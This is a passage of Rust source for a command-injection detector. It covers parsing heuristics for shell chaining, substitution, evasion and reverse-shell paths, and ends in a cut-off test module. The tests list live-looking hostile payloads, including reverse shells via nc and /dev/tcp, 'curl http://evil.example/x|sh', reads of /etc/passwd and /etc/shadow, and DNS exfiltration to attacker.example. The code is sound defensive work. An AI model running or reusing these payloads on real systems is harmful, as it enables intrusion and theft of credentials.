        // Jump to the next byte the match below reads: most of a value is words.
        match b[i..].iter().position(|&c| CHAIN_BYTES[usize::from(c)]) {
            Some(p) => i += p,
            None => break,
        }
        let c = b[i];
        let (after, substitution) = match c {
            b';' if MARKUP_REFERENCES.iter().any(|r| b[..=i].ends_with(r))
                && *markup.get_or_insert_with(|| escaped_markup(b)) =>
            {
                i += 1;
                continue;
            }
            b';' | b'\n' | b'\r' => (i + 1, false),
            // A newline escaped as text (`\nid`, `1\n/bin/ls`), not inside a word or a Windows
            // path (`C:\new\rm`).
            b'\\'
                if matches!(b.get(i + 1), Some(b'n' | b'r'))
                    && (i == 0
                        || !(b[i - 1].is_ascii_alphabetic()
                            || matches!(b[i - 1], b':' | b'\\'))) =>
            {
                (i + 2, false)
            }
            // `&copy;`, `&times;`: HTML entities named like commands, in markup and prose.
            b'&' if COMMAND_ENTITIES.iter().any(|e| b[i + 1..].starts_with(e)) => {
                i += 1;
                continue;
            }
            b'|' | b'&' => {
                // `| Name | Type |`: a Markdown table row's cells (each line read once).
                if c == b'|' {
                    if i >= table.0 {
                        table = table_row(b, i);
                    }
                    if table.1 {
                        i += 1;
                        continue;
                    }
                }
                (i + if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false)
            }
            // ``x`` (reStructuredText, Markdown) is an empty substitution, then a word.
            b'`' if b.get(i + 1) == Some(&b'`') => {
                i += 2;
                continue;
            }
            b'`' => {
                let closes = opened.take().is_some_and(|o| {
                    !b[o + 1..i]
                        .iter()
                        .any(|c| matches!(c, b'\'' | b'"' | b'\\'))
                });
                if closes {
                    i += 1;
                    continue;
                }
                opened = Some(i);
                (i + 1, true)
            }
            b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
            // Brace expansion `{cat,/etc/passwd}` runs its first word where a command starts:
            // the value's start or after a separator. Elsewhere it expands to arguments
            // (`patches/*.{diff,patch}`, `bz{more,less}`, `the {file,shell} modules`).
            b'{' if !command_position(b, i) => {
                i += 1;
                continue;
            }
            b'{' if b.get(i + 1) == Some(&b',') && brace_command(b, i + 2) => (i + 2, false),
            b'{' if brace_command(b, i + 1) => (i + 1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        // In multi-line text (GraphQL selections, YAML, lists, code) a line holding one word
        // such as `id` or `date` is ordinary: after a line break, a command needs an argument.
        if matches!(c, b'\n' | b'\r')
            && multiline.get_or_insert_with(|| text_lines(b) >= 3) == &true
        {
            if shell_argument(b, read_word(b, after).end) {
                if let Some(h) = command_at(b, i, after, substitution, false) {
                    return Some(h);
                }
            }
        } else if let Some(h) = command_at(b, i, after, substitution, false) {
            // Prose is asked about only for a command found: a value of many separators
            // (`&#&#…`) must not pay a look-back at each.
            let prose = paranoia < 2
                && match c {
                    b'&' => {
                        sentence(b, i, after)
                            || capitals_after_ampersand(text, i)
                            || product_comment(b, i)
                    }
                    b';' | b'|' => sentence(b, i, after) || product_comment(b, i),
                    b'\\' => sentence(b, i, after),
                    b'`' => {
                        inline_code(b, i, h.end)
                            && *words.get_or_insert_with(|| plain_words(b) >= 3)
                    }
                    _ => false,
                };
            if !prose {
                return Some(h);
            }
        }
        i = after.max(i + 1);
    }
    None
}

/// The bytes [`chains`] stops at: separators, substitutions, escaped newlines, brace expansion.
static CHAIN_BYTES: [bool; 256] = {
    let mut t = [false; 256];
    let stops = b";\n\r\\&|`$<>{";
    let mut i = 0;
    while i < stops.len() {
        t[stops[i] as usize] = true;
        i += 1;
    }
    t
};

/// A separator inside the comment of a product token: the items of a User-Agent
/// (`Mozilla/5.0 (Linux; U; Android 4.0.4; id; …)`, `UCWEB/2.0 (Java; U; Id; …)`,
/// `(Windows NT 6.3; Trident/7.0; Touch; rv:11.0)`), which no shell runs: to it, a `(` after
/// a word is a syntax error. The comment must close, within 256 bytes either side.
fn product_comment(b: &[u8], sep: usize) -> bool {
    let from = sep.saturating_sub(256);
    let Some(open) = b[from..sep]
        .iter()
        .rposition(|&c| c == b'(')
        .map(|p| from + p)
    else {
        return false;
    };
    let to = b.len().min(sep + 256);
    if b[open + 1..sep].contains(&b')') || !b[sep..to].contains(&b')') {
        return false;
    }
    // `name/version ` before the `(`.
    let head = b[..open].trim_ascii_end();
    if head.len() == open {
        return false;
    }
    let token = head
        .iter()
        .rposition(|c| c.is_ascii_whitespace() || *c == b')')
        .map_or(head, |p| &head[p + 1..]);
    let Some(slash) = token.iter().position(|&c| c == b'/') else {
        return false;
    };
    slash > 0
        && token[..slash]
            .iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
        && token.get(slash + 1).is_some_and(u8::is_ascii_digit)
}

/// A spaced `&` before a word of two or three capitals (`Raleigh & NC`, `Charlotte, NC & SC`,
/// `Boise & ID - Payette`): an abbreviation in prose. Lambda's shell is Linux's, where command
/// names are case-sensitive: `NC`, `SC` and `ID` run nothing.
fn capitals_after_ampersand(text: &[u8], amp: usize) -> bool {
    let spaced = amp > 0 && text[amp - 1] == b' ' && text.get(amp + 1) == Some(&b' ');
    let word = text[(amp + 2).min(text.len())..]
        .iter()
        .take_while(|c| c.is_ascii_alphabetic())
        .count();
    let after = text.get(amp + 2 + word);
    spaced
        && (2..=3).contains(&word)
        && text[amp + 2..amp + 2 + word]
            .iter()
            .all(u8::is_ascii_uppercase)
        && after.is_none_or(|c| matches!(c, b' ' | b',' | b'.' | b')' | b'/'))
}

/// Words on both sides of a separator, the command followed by two plain words, make a
/// sentence (`wget is a tool; curl is another.`), not a command line: arguments are options,
/// paths, hosts, numbers or nothing.
fn sentence(b: &[u8], sep: usize, after: usize) -> bool {
    let window = &b[sep.saturating_sub(64)..sep];
    let line = window
        .iter()
        .rposition(|c| matches!(c, b'\n' | b'\r'))
        .map_or(window, |p| &window[p + 1..]);
    let words_before = line
        .split(u8::is_ascii_whitespace)
        .filter(|w| !w.is_empty())
        .take(2)
        .count();
    let w = read_word(b, after);
    if words_before < 2 || w.evasion || b.get(w.end) != Some(&b' ') {
        return false;
    }
    let rest = &b[w.end..b.len().min(w.end + 64)];
    let mut words = rest.split(|c| *c == b' ').filter(|w| !w.is_empty());
    let plain = |w: Option<&[u8]>| {
        w.is_some_and(|w| {
            let w = w.strip_suffix(b".").or(w.strip_suffix(b",")).unwrap_or(w);
            !w.is_empty() && w.iter().all(u8::is_ascii_alphabetic)
        })
    };
    plain(words.next()) && plain(words.next())
}

/// One word in backticks between spaces or punctuation (`` the `time` crate ``): Markdown's
/// inline code when the value has words around it. A dot glued to a name after it is no
/// sentence's end: `` `whoami`.attacker.example `` sends the output out as a DNS label.
fn inline_code(b: &[u8], open: usize, word_end: usize) -> bool {
    if b.get(word_end + 1) == Some(&b'.')
        && b.get(word_end + 2).is_some_and(u8::is_ascii_alphanumeric)
    {
        return false;
    }
    let before = open == 0
        || matches!(
            b[open - 1],
            b' ' | b'\t' | b'(' | b'[' | b'*' | b'"' | b'\'' | b'-'
        );
    let after = b.get(word_end + 1).is_none_or(|c| {
        c.is_ascii_whitespace()
            || matches!(
                c,
                b'.' | b','
                    | b':'
                    | b';'
                    | b')'
                    | b']'
                    | b'*'
                    | b'\''
                    | b'"'
                    | b's'
                    | b'?'
                    | b'!'
                    | b'-'
            )
    });
    before && b.get(word_end) == Some(&b'`') && after
}

/// The end of the line holding the pipe at `i`, and whether it is a Markdown table row: a line
/// opening and closing with `|`, three pipes or more, cells spaced from them.
fn table_row(b: &[u8], i: usize) -> (usize, bool) {
    let from = b[..i]
        .iter()
        .rposition(|c| matches!(c, b'\n' | b'\r'))
        .map_or(0, |p| p + 1);
    let to = b[i..]
        .iter()
        .position(|c| matches!(c, b'\n' | b'\r'))
        .map_or(b.len(), |p| i + p);
    let line = b[from..to].trim_ascii();
    let row = line.len() > 4
        && line.starts_with(b"| ")
        && line.ends_with(b" |")
        && line.iter().filter(|c| **c == b'|').count() >= 3;
    (to.max(i + 1), row)
}

/// Words of two letters or more.
fn plain_words(b: &[u8]) -> usize {
    b.split(|c| !c.is_ascii_alphabetic())
        .filter(|w| w.len() >= 2)
        .count()
}

/// The substitution opening at `open` is the value of a shell assignment (`NAME=` right
/// before it, the name starting a word).
fn assigned_at(b: &[u8], open: usize) -> bool {
    let Some(eq) = open.checked_sub(1).filter(|&e| b[e] == b'=') else {
        return false;
    };
    let name = b[..eq]
        .iter()
        .rev()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let start = eq - name;
    name > 0
        && !b[start].is_ascii_digit()
        && (start == 0
            || matches!(
                b[start - 1],
                b';' | b'&' | b'|' | b'\n' | b'\r' | b' ' | b'\t'
            ))
}

/// Lines with something on them.
fn text_lines(b: &[u8]) -> usize {
    b.split(|c| matches!(c, b'\n' | b'\r'))
        .filter(|line| line.iter().any(|c| !c.is_ascii_whitespace()))
        .count()
}

/// A shell argument starts at `i` (after spaces or tabs): an option, a path, a variable, a
/// redirection, a quote, a glob, or a further separator.
fn shell_argument(b: &[u8], i: usize) -> bool {
    let j = i + b[i.min(b.len())..]
        .iter()
        .take_while(|c| matches!(c, b' ' | b'\t'))
        .count();
    j > i && b.get(j).is_some_and(|c| starts_argument(*c))
        || matches!(b.get(i), Some(b';' | b'|' | b'&' | b'>' | b'<' | b'`'))
}

/// A byte that starts a shell argument: an option, a path, a variable, a redirection, a quote,
/// a glob, an escape, or a further separator.
fn starts_argument(c: u8) -> bool {
    matches!(
        c,
        b'-' | b'/'
            | b'$'
            | b'~'
            | b'>'
            | b'<'
            | b'|'
            | b';'
            | b'&'
            | b'`'
            | b'\''
            | b'"'
            | b'*'
            | b'\\'
    )
}

/// Words that run the command after them, after a separator: [`WRAPPERS`], tools that only
/// adjust how a command runs, and the shell keywords that open a command list.
const PREFIXES: &[&[u8]] = &[
    b"stdbuf",
    b"setsid",
    b"rlwrap",
    b"unbuffer",
    b"ionice",
    b"chrt",
    b"then",
    b"do",
    b"else",
];

/// Word commands whose argument may be a bare number.
const NUMERIC: &[&[u8]] = &[
    b"sleep",
    b"expr",
    b"ping",
    b"kill",
    b"seq",
    b"timeout",
    b"wait",
    b"head",
    b"tail",
    b"top",
    b"time",
    b"w",
    b"ps",
    b"id",
    b"shutdown",
];

/// After spaces from `i`: a number with no dot in it (`4`, not `1.txt` or `10.0.0.1`).
fn bare_number(b: &[u8], i: usize) -> bool {
    let j = i + b[i.min(b.len())..]
        .iter()
        .take_while(|c| matches!(c, b' ' | b'\t'))
        .count();
    let n = b[j.min(b.len())..]
        .iter()
        .take_while(|c| c.is_ascii_digit())
        .count();
    n > 0 && b.get(j + n) != Some(&b'.')
}

/// English words among the prefixes: `nice touch` may close a sentence.
const PROSE_PREFIXES: &[&[u8]] = &[
    b"time", b"nice", b"command", b"watch", b"then", b"do", b"else", b"exec", b"eval",
];

/// A separator at `sep` with nothing before it on its line but one token no prose writes: an
/// injection closing a number, an address or a quoted string (`127.0.0.1;`, `x';`, `;` first).
/// Whether the word at `at..end` is a whole field of a record delimited by the `;` or `|` at
/// `sep`: the same delimiter after it, and a plain, non-empty field of at most 64 bytes on
/// each side (looked for within that distance: a longer run is not a field). Quotes are not
/// plain: `x';id;'` breaks out of a string.
fn record_field(b: &[u8], sep: usize, at: usize, end: usize) -> bool {
    let d = b[sep];
    let plain = |f: &[u8]| {
        (1..=64).contains(&f.len())
            && !f.trim_ascii().is_empty()
            && f.iter().all(|c| {
                c.is_ascii_alphanumeric()
                    || *c >= 0x80
                    || matches!(c, b' ' | b'.' | b'-' | b'_' | b'@' | b':' | b',' | b'+')
            })
    };
    let whole = b
        .get(sep + 1..at)
        .is_some_and(|gap| gap.trim_ascii().is_empty());
    let last = end == b.len();
    if !matches!(d, b';' | b'|') || !(last || b.get(end) == Some(&d)) || !whole {
        return false;
    }
    // The field ending at `to` (exclusive) and where it starts.
    let field_before = |to: usize| {
        let from = to.saturating_sub(65);
        match b[from..to].iter().rposition(|c| *c == d) {
            Some(p) => Some((from + p + 1, &b[from + p + 1..to])),
            None if from == 0 => Some((0, &b[..to])),
            None => None,
        }
    };
    let Some((start, before)) = field_before(sep) else {
        return false;
    };
    if last {
        // The record's last field: two plain fields before it (`1;id` closes a value).
        return start > 0
            && plain(before)
            && field_before(start - 1).is_some_and(|(_, f)| plain(f));
    }
    let rest = &b[end + 1..b.len().min(end + 66)];
    let after = match rest.iter().position(|c| *c == d) {
        Some(p) => &rest[..p],
        None if end + 1 + rest.len() == b.len() => rest,
        None => return false,
    };
    plain(before) && plain(after)
}

fn bare_separator(b: &[u8], sep: usize) -> bool {
    if !matches!(b.get(sep), Some(b';' | b'|' | b'&')) {
        return false;
    }
    // Looked for within 66 bytes: a longer line is not one token.
    let from = sep.saturating_sub(66);
    let line = match b[from..sep]
        .iter()
        .rposition(|c| matches!(c, b'\n' | b'\r'))
    {
        Some(p) => from + p + 1,
        None if from > 0 => return false,
        None => 0,
    };
    let before = b[line..sep].trim_ascii();
    // One token: empty, closing a quoted string (`x'`), or digits and punctuation.
    !before.contains(&b' ')
        && (before
            .last()
            .is_some_and(|c| matches!(c, b'\'' | b'"' | b'`'))
            || before.iter().all(|c| {
                c.is_ascii_digit() || matches!(c, b'.' | b':' | b',' | b'/' | b'_' | b'-')
            }))
}

/// Two words or more before the separator at `sep` on its line, the last one ending in a
/// letter, and a space after the separator: prose punctuated with `;` (or `&`, `|`).
fn sentence_before(b: &[u8], sep: usize) -> bool {
    let line = b[..sep]
        .iter()
        .rposition(|c| matches!(c, b'\n' | b'\r'))
        .map_or(0, |p| p + 1);
    let before = b[line..sep].trim_ascii();
    b.get(sep + 1) == Some(&b' ')
        && before.last().is_some_and(u8::is_ascii_alphabetic)
        && before.contains(&b' ')
}

/// After a prefix word ending at `i`: its options and numbers (`nice -n 10`, `stdbuf -o0`,
/// `command -v`) skipped, where the command it runs starts.
fn past_options(b: &[u8], mut i: usize) -> usize {
    for _ in 0..3 {
        let j = skip_space(b, i);
        if j == i || !b.get(j).is_some_and(|c| *c == b'-' || c.is_ascii_digit()) {
            break;
        }
        i = j + b[j..]
            .iter()
            .take_while(|c| !c.is_ascii_whitespace())
            .count();
    }
    i
}

fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) -> Option<Hit> {
    command_after(b, sep, at, substitution, start, 0)
}

fn command_after(
    b: &[u8],
    sep: usize,
    at: usize,
    substitution: bool,
    start: bool,
    depth: u8,
) -> Option<Hit> {
    let w = read_word(b, at);
    if w.len == 0 {
        return None;
    }
    let word = &w.text[..w.len];
    let hit = |rule| Some(Hit::new(rule, sep, w.end.max(sep + 1)));
    // `;time id`, `;nohup nc …`, `;then id;`: the prefix runs the word after it; glued to a
    // parenthesis it is a call in code (`` `watch(expr)` ``).
    let call = b.get(w.end) == Some(&b'(');
    if !start && depth < 3 && !call && (WRAPPERS.contains(&word) || PREFIXES.contains(&word)) {
        let next = past_options(b, w.end);
        let inner = read_word(b, next);
        let weak = command_class(&inner.text[..inner.len]) == Some(false);
        // `Great work; nice touch`: a word command ending the value after an English prefix
        // runs only where no sentence comes before.
        let ends = b[inner.end.min(b.len())..].trim_ascii().is_empty();
        let prose = PROSE_PREFIXES.contains(&word) && weak && ends && !bare_separator(b, sep);
        if inner.len > 0 && !prose {
            if let Some(h) = command_after(b, sep, next, substitution, false, depth + 1) {
                return Some(h);
            }
        }
    }
    if !start && matches!(word, b"vi" | b"vim" | b"ex" | b"view" | b"nvim" | b"rvim") {
        if let Some(h) = editor_escape(b, sep, w.end) {
            return Some(h);
        }
    }
    // `; $env:USERNAME`: PowerShell reads the function's environment.
    if !start && word.starts_with(b"$env:") && word.len() > 5 {
        return hit("cmdi.command_chain");
    }
    // Glob in a path: `/???/c?t`, `/bin/ca*`.
    if word.starts_with(b"/") && word.iter().any(|c| matches!(c, b'?' | b'*')) && word.len() > 3 {
        return hit("cmdi.shell_evasion");
    }
    // `;base64,iVBOR…` (a data URI) is one shell word, not `base64`: a comma ends a command
    // name only in brace expansion (`{cat,/etc/passwd}`).
    if b.get(w.end) == Some(&b',') && b.get(sep) != Some(&b'{') {
        return None;
    }
    let class = match command_class(word) {
        Some(c) => c,
        // `{l,-lh}s`: brace expansion glues the text after `}` to each element.
        None if sep < b.len() && b[sep] == b'{' => return braced_word(b, sep, word),
        // `a=nc&&$a -l`, `c1=c;c2=at;$c1$c2`: a command assembled from variables set earlier.
        None if assigned_variables(b, sep, word) => return hit("cmdi.shell_evasion"),
        // `$u wget`: an unset variable before the command expands to nothing.
        None if is_unset_variable(word) && b.get(w.end) == Some(&b' ') => {
            let next = read_word(b, w.end);
            let class = command_class(&next.text[..next.len]);
            let runs = class == Some(true)
                || (class.is_some() && argument_follows(b, next.end, substitution));
            return runs.then(|| Hit::new("cmdi.shell_evasion", sep, next.end));
        }
        None => return None,
    };
    if w.split {
        return hit("cmdi.shell_evasion");
    }
    // `name;id;email`, `red|cat|blue`: a command word alone as a field of a delimited record,
    // between two plain fields, is a column name or a tag. An injection closes the value it
    // follows and leaves nothing after its command (`1;id`, `;id;`, `x;id;#`).
    if !start && !substitution && record_field(b, sep, at, w.end) {
        return None;
    }
    // `Delivery on Monday; free`: an English word command (four letters or more: not `id`,
    // `ls`, `pwd`) ending the value after a sentence, not after the one token an injection
    // closes (`x; free`, `127.0.0.1; id` stay hits).
    if !class && word.len() >= 4 && b[w.end..].trim_ascii().is_empty() && sentence_before(b, sep) {
        return None;
    }
    let args = argument_follows(b, w.end, substitution);
    if start {
        // Paranoia 2: a whole value that is a command line.
        return (class && args && w.end < b.len())
            .then(|| Hit::new("cmdi.command_chain", 0, w.end));
    }
    // `;(id)`: a subshell closing after the command.
    let closed = (w.group && b.get(skip_space(b, w.end)) == Some(&b')'))
        || substitution && matches!(b.get(w.end), Some(b'`' | b')'))
        // `$(cat file)`, `<(ls x)`: a known command inside a substitution that closes
        // before any other separator (backticks excepted: Markdown quotes code with them).
        || (substitution
            && sep + 1 < b.len()
            && b[sep] != b'`'
            && b[w.end..]
                .iter()
                .take_while(|c| !matches!(c, b';' | b'|' | b'&' | b'`' | b'\n'))
                .any(|c| *c == b')'))
        // `` X=`echo A` ``: backticks that a shell assignment opens, which Markdown never
        // writes, closing before any other separator.
        || (substitution
            && b[sep] == b'`'
            && assigned_at(b, sep)
            && b[w.end..]
                .iter()
                .take_while(|c| !matches!(c, b';' | b'|' | b'&' | b'\n'))
                .any(|c| *c == b'`'));
    if w.evasion && (class || args) {
        return hit("cmdi.shell_evasion");
    }
    // `; Apt 4`: a number is the argument only of commands that count or address (`sleep 5`,
    // `ping 10.0.0.1`, `kill 9`) or a file name (`cat 1.txt`).
    let args = args && (class || !bare_number(b, w.end) || NUMERIC.contains(&word));
    // `;ps aux`, `127.0.0.1|ip a`: after a bare separator a word command with one word after
    // it, then nothing or another command (`1; exec will create the case` goes on as prose).
    let bare =
        !class && !substitution && b.get(w.end) == Some(&b' ') && bare_separator(b, sep) && {
            let n = skip_space(b, w.end);
            let len = b[n..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
            let e = skip_space(b, n + len);
            (1..=12).contains(&len)
                && b.get(e)
                    .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r'))
        };
    if class || args || closed || bare {
        return hit(if substitution {
            "cmdi.substitution"
        } else {
            "cmdi.command_chain"
        });
    }
    None
}

/// A command word made only of variable references (`$a`, `$c1$c2`) whose first variable the
/// value assigned in an earlier statement (`a=nc&&`, `;c1=c;`), looked for in the 256 bytes
/// before the separator.
fn assigned_variables(b: &[u8], sep: usize, word: &[u8]) -> bool {
    let Some(refs) = word.strip_prefix(b"$") else {
        return false;
    };
    let names = || refs.split(|c| *c == b'$');
    let valid = |n: &[u8]| {
        n.first()
            .is_some_and(|c| c.is_ascii_lowercase() || *c == b'_')
            && n.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
    };
    let Some(first) = names().next() else {
        return false;
    };
    if !names().all(valid) || first.len() + 1 > 32 {
        return false;
    }
    let mut needle = [0u8; 33];
    needle[..first.len()].copy_from_slice(first);
    needle[first.len()] = b'=';
    let from = sep.saturating_sub(256);
    memchr::memmem::find_iter(&b[from..sep], &needle[..=first.len()]).any(|p| {
        let at = from + p;
        at == 0 || matches!(b[at - 1], b';' | b'&' | b'|' | b'\n' | b' ' | b'(' | b'`')
    })
}

/// `$name`: a variable reference standing alone as a word.
fn is_unset_variable(word: &[u8]) -> bool {
    word.len() >= 2
        && word[0] == b'$'
        && word[1..]
            .iter()
            .all(|c| c.is_ascii_lowercase() || *c == b'_')
}

/// The command a brace expansion opened at `open` spells when its first element `first` is
/// glued to the text after the closing brace (`{l,-lh}s` runs `ls -lh`).
fn braced_word(b: &[u8], open: usize, first: &[u8]) -> Option<Hit> {
    let close = open + memchr::memchr(b'}', &b[open..b.len().min(open + 64)])?;
    let inner = &b[open + 1..close];
    if inner.iter().any(u8::is_ascii_whitespace) {
        return None;
    }
    let suffix_len = b[close + 1..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    if suffix_len == 0 || first.len() + suffix_len > 32 {
        return None;
    }
    let mut word = [0u8; 32];
    word[..first.len()].copy_from_slice(first);
    word[first.len()..first.len() + suffix_len]
        .copy_from_slice(&b[close + 1..close + 1 + suffix_len]);
    command_class(&word[..first.len() + suffix_len])
        .map(|_| Hit::new("cmdi.shell_evasion", open, close + 1 + suffix_len))
}

/// Whether a word at `i` would be a command: it starts the value, a line, or follows a
/// separator or an opening (`;`, `|`, `&`, `(`, `` ` ``, `{`, `!`), blanks between.
fn command_position(b: &[u8], i: usize) -> bool {
    let before = b[..i].trim_ascii_end();
    before.is_empty()
        || matches!(
            before[before.len() - 1],
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b'`' | b'{' | b'!'
        )
        || before.ends_with(b"\\n")
}

fn brace_command(b: &[u8], i: usize) -> bool {
    if !b
        .get(i)
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/')
    {
        return false;
    }
    // The word ends at a comma: none within reach, no word to read (every `{` of a value asks).
    if memchr::memchr(b',', &b[i..b.len().min(i + 128)]).is_none() {
        return false;
    }
    let w = read_word(b, i);
    w.len > 0 && b.get(w.end) == Some(&b',')
}

/// The SQLite shell's `.shell` and `.system` (run a command) at the start of a line or after
/// a `;` (`;\n.shell nc …`): a value pasted into a `sqlite3` session escapes to the shell.
fn sqlite_shell(b: &[u8]) -> Option<Hit> {
    [&b".shell"[..], b".system"].into_iter().find_map(|needle| {
        find_iter(b, needle).find_map(|p| {
            let blank = b[..p]
                .iter()
                .rev()
                .take_while(|c| matches!(c, b' ' | b'\t'))
                .count();
            let before = &b[..p - blank];
            // Where a line starts: the value's start, a line break (or one escaped as text,
            // `;\n.shell`), a `;`.
            let line = before.is_empty()
                || before.ends_with(b"\\n")
                || matches!(before.last(), Some(b'\n' | b'\r' | b';'));
            let end = p + needle.len();
            let argument = b.get(end).is_some_and(|c| matches!(c, b' ' | b'\t'))
                && b.get(skip_space(b, end))
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
            (line && argument).then(|| Hit::new("cmdi.shell_escape", p, end))
        })
    })
}

/// A `!` that runs `cmd` in a vi or ex session opened by the injected command word ending at
/// `at` (`;vi x +silent\ \!whoami +wq`, `;ex -c:\!pwd`), on the same line.
fn editor_escape(b: &[u8], sep: usize, at: usize) -> Option<Hit> {
    let line = &b[at..b.len().min(at + 256)];
    let line = &line[..memchr::memchr2(b'\n', b'\r', line).unwrap_or(line.len())];
    memchr::memchr_iter(b'!', line).find_map(|p| {
        let w = read_word(b, at + p + 1);
        (w.len > 0 && command_class(&w.text[..w.len]).is_some())
            .then(|| Hit::new("cmdi.shell_escape", sep, w.end))
    })
}

/// Shell binaries by path and reverse-shell devices anywhere in the value.
fn shell_paths(b: &[u8]) -> Option<Hit> {
    for needle in [&b"/dev/tcp/"[..], b"/dev/udp/"] {
        if let Some(p) = find(b, needle) {
            return Some(Hit::new("cmdi.shell_path", p, p + needle.len()));
        }
    }
    for needle in [&b"/bin/"[..], b"/sbin/"] {
        for p in find_iter(b, needle) {
            let w = read_word(b, p + needle.len());
            // The whole value a program's path (`/bin/ab`, `/usr/sbin/xyz`): it will be run.
            let whole = w.len > 0
                && w.end == b.trim_ascii_end().len()
                && b[..p]
                    .trim_ascii_start()
                    .iter()
                    .all(|c| c.is_ascii_lowercase() || *c == b'/')
                && matches!(b.trim_ascii_start().first(), Some(b'/'));
            if whole {
                return Some(Hit::new("cmdi.shell_path", 0, w.end));
            }
            if command_class(&w.text[..w.len]).is_some() {
                let from = p.saturating_sub(256);
                let start = b[from..p]
                    .iter()
                    .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'/' && *c != b'_')
                    .map_or(from, |x| from + x + 1);
                // The path must start the value or follow something a shell would run it after:
                // a separator, or (after a space) a command or an option that runs programs
                // (`nc -e /bin/sh`, `sudo /bin/bash`), not a word of prose (`use /bin/bash to`).
                let runs_after = |c: u8| {
                    matches!(
                        c,
                        b';' | b'|'
                            | b'&'
                            | b'`'
                            | b'('
                            | b'\''
                            | b'"'
                            | b'='
                            | b'\n'
                            | b'{'
                            | b','
                    )
                };
                let standalone = start == 0
                    || runs_after(b[start - 1])
                    || matches!(b[start - 1], b' ' | b'\t') && {
                        let before = b[..start].trim_ascii_end();
                        // A command's name is short: 64 bytes back at most.
                        let from = before.len().saturating_sub(64);
                        let word_start = before[from..]
                            .iter()
                            .rposition(|c| {
                                !(c.is_ascii_alphanumeric()
                                    || matches!(c, b'-' | b'_' | b'.' | b'/'))
                            })
                            .map_or(from, |x| from + x + 1);
                        let word = &before[word_start..];
                        before.is_empty()
                            || runs_after(before[before.len() - 1])
                            || word.starts_with(b"-")
                            || command_class(word).is_some()
                    };
                if standalone {
                    return Some(Hit::new("cmdi.shell_path", start, w.end));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    /// Found by review: a versioned name that is itself a strong command (`ping6`), and a
    /// command followed by blanks only.
    #[test]
    fn versioned_names_and_trailing_blanks() {
        for a in [
            "x; ping6 evil",
            "127.0.0.1;id ",
            "127.0.0.1|id\t",
            "127.0.0.1 && ls ",
            "x';ps ",
        ] {
            assert_eq!(rule(a), Some("cmdi.command_chain"), "{a}");
        }
        assert_eq!(rule("Delivery on Monday; free "), None);
    }

    /// cmd.exe spellings from PayloadsAllTheThings' command injection page, written here with
    /// other commands and variables: `@` before a command, and a variable's substring.
    #[test]
    fn cmd_echo_prefix_and_variable_substrings() {
        for a in [
            "x&@ipconfig /all",
            "1|@net localgroup administrators",
            "a&&@^t^y^p^e C:\\boot.ini",
            "ping%ProgramFiles:~10,-5%10.0.0.1",
            "%COMSPEC:~-7,1%",
        ] {
            assert_eq!(rule(a), Some("cmdi.shell_evasion"), "{a}");
        }
        for b in [
            "Tom & @alice said hi",
            "Thanks & @id for the fix",
            "R&D @ 5pm",
            "ratio 3:~4, about 75%",
            "progress:~50%",
            "50% of %PATH% and %HOME:~%",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn attacks() {
        for a in [
            // Shell escapes of the SQLite shell and of vi/ex.
            "1;\n.shell nc 10.0.0.1 6666 -e sh",
            "x\n.system id",
            ";\\n.shell whoami",
            ";ex dddd +silent\\ \\!whoami +wq",
            ";ex -c:\\!pwd",
            "| vim -c ':!id' -c ':q'",
            // The shell's own name.
            ";$0 -c id",
            "|${0} -c id",
            "a && $0",
            // A word command after the one token an injection closes.
            "x; free",
            "127.0.0.1; id",
            "; cat /etc/passwd",
            "x | whoami",
            "127.0.0.1 && ping -c 10 evil.example",
            "`id`",
            "echo `x` `whoami`",
            // Output sent out as a DNS label, in a sentence or alone.
            "`whoami`.attacker.example",
            "nslookup `whoami`.attacker.example now",
            "'`'`id`",
            "$(uname -a)",
            "a;c${IFS}at${IFS}/etc/passwd",
            "x;w'h'o'am'i",
            "x;/???/??t /???/p??s??",
            "foo\ncurl http://evil.example/x|sh",
            "|| nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "a & dir c:\\",
            "{cat,/etc/passwd}",
            ";lastlogin -u admin",
            "() { :; }; /bin/id",
            "for /f \"tokens=*\" %%g in ('dir /b') do echo %%g",
            "& IF EXIST C:\\boot.ini type C:\\boot.ini",
            "if \"%VAR%\"==\"x\" goto end",
            "cat /[e]tc/pa??wd",
            "/usr/[a-z]in/bash -i",
            "time sh -c whoami",
            "%COMSPEC% /c dir",
            "%SystemRoot%\\system32\\cmd.exe /c dir",
            "/usr/local/bin/python3 -c 'import os'",
            "powershell -enc SQBFAFgA",
            "Invoke-WebRequest http://evil.example/x.ps1",
            "x<(cat /tmp/f)",
            "x\nid\n",
            "{\n  id\n  name\n}\n\nid -a\n",
            "line one\nline two\ncat /etc/passwd\n",
            "John Smith; cat /etc/passwd",
            "a nice name; nc evil 4444",
            "my name; id",
            "{cat,/etc/passwd}",
            "x;base64 /etc/shadow",
            // Tools by family, by version, and admin tools.
            "x; ansible-inventory --list",
            "a| chef-client -z",
            "; python3.11 -c 'print(1)'",
            "&& kubectl get secrets",
            "; visudo",
            "; aptitude -y install nmap",
            // Command lines without a separator, aliases, expansions, brace and batch forms.
            "nmap -sV 10.0.0.1",
            "kubectl get -A",
            "c99 -wrapper sh,-c,id",
            "alias ll='ls -l'",
            "alias -g x=y",
            "$((7))z -x",
            "${PATH#*/}",
            "${PATH:0:1}bin${PATH:0:1}sh",
            "c${x,,}at /etc/hosts",
            "${SHELL^^}",
            "{,ip,a}",
            "{l,-lh}s",
